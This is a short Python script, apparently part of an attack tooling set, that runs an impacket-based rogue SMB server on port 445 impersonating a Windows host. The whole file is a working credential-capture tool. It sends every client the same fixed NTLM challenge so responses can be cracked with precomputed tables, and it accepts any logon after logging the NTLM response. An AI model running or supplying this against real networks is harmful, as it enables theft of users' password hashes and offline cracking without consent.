#!/usr/bin/python3
"""impacket SimpleSMBServer as a rogue / "responder"-like SMB server (attacks set).

usage: rogue_smb_server.py BIND_IP CHALLENGE_HEX SERVER_NAME SERVER_DOMAIN SHARE_DIR
  Every CHALLENGE it sends carries the same server challenge CHALLENGE_HEX (e.g. 1122334455667788),
  as a capturing rogue server does (precomputed tables). It accepts any logon (no credentials
  configured) after logging the NTLM response.
"""
import sys
from impacket import smbserver

ip, chal, name, dom, sharedir = sys.argv[1:6]
srv = smbserver.SimpleSMBServer(listenAddress=ip, listenPort=445)
cfg = srv._SimpleSMBServer__smbConfig
cfg.set('global', 'server_name', name)
cfg.set('global', 'server_domain', dom)
cfg.set('global', 'server_os', 'Windows')
srv._SimpleSMBServer__server.setServerConfig(cfg)
srv._SimpleSMBServer__server.processConfigFile()
srv.setSMBChallenge(chal)
srv.setSMB2Support(True)
srv.addShare('PUBLIC', sharedir, 'public')
srv.start()
